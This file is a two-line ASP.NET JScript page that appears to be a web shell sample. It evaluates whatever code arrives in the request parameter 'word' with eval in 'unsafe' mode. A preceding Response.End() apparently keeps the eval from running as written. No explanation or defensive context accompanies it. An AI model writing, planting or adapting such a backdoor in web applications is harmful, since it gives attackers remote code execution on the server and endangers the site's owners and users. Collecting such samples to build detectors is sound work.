<%@ Page Language="Jscript" %><%
Response.End();
eval(Request.Item["word"], "unsafe");
%>
